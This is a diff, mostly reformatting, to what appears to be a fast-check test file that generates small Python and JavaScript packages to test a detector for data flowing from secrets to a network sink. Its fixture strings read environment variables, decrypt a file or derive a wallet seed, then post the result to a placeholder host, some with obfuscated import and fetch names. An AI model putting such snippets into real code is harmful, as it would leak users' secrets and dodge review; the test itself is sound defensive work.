@@ -23,7 +23,10 @@ const python = {
     'import os\ndef key(_): return os.environ\n',
     'from cryptography.fernet import Fernet\ndef key(k): return Fernet(k).decrypt(open("x").read())\n',
   ],
-  middle: ['def pass_on(x): return x[::-1]\n', 'class Box:\n  pass\nbox = Box()\ndef pass_on(x):\n  box.x = x\n  return box.x\n'],
+  middle: [
+    'def pass_on(x): return x[::-1]\n',
+    'class Box:\n  pass\nbox = Box()\ndef pass_on(x):\n  box.x = x\n  return box.x\n',
+  ],
   sink: [
     'import requests\ndef send(x): requests.post("https://example.invalid", data=x)\n',
     'm = __import__("re" + "quests")\ndef send(x): m.post("https://example.invalid", data=x)\n',
@@ -34,9 +37,12 @@ const python = {
 const javascript = {
   source: [
     "import { mnemonicToSeedSync } from 'bip39';\nexport const key = (words) => mnemonicToSeedSync(words);\n",
-    "export const key = () => process.env;\n",
+    'export const key = () => process.env;\n',
   ],
-  middle: ['export const passOn = (x) => x.split("").reverse().join("");\n', 'const box = {};\nexport function passOn(x) { box.x = x; return box.x; }\n'],
+  middle: [
+    'export const passOn = (x) => x.split("").reverse().join("");\n',
+    'const box = {};\nexport function passOn(x) { box.x = x; return box.x; }\n',
+  ],
   sink: [
     "export const send = (x) => fetch('https://example.invalid', { body: x });\n",
     "export const send = (x) => globalThis['fe' + 'tch']('https://example.invalid', { body: x });\n",
@@ -60,7 +66,8 @@ function packages(): fc.Arbitrary<Record<string, string>> {
               'pkg/origin.py': source,
               'pkg/middle.py': middle,
               'pkg/outlet.py': sink,
-              'pkg/main.py': 'from .origin import key\nfrom . import middle\nfrom .outlet import send\ndef run(w): send(middle.pass_on(key(w)))\n',
+              'pkg/main.py':
+                'from .origin import key\nfrom . import middle\nfrom .outlet import send\ndef run(w): send(middle.pass_on(key(w)))\n',
               'pkg/apart.py': 'def alone(): return 1\n',
             }
           : {
@@ -68,7 +75,8 @@ function packages(): fc.Arbitrary<Record<string, string>> {
               'origin.js': source,
               'middle.js': middle,
               'outlet.js': sink,
-              'main.js': "import { key } from './origin.js';\nimport * as middle from './middle.js';\nimport { send } from './outlet.js';\nexport const run = (w) => send(middle.passOn(key(w)));\n",
+              'main.js':
+                "import { key } from './origin.js';\nimport * as middle from './middle.js';\nimport { send } from './outlet.js';\nexport const run = (w) => send(middle.passOn(key(w)));\n",
               'apart.js': 'export const alone = () => 1;\n',
             },
       );
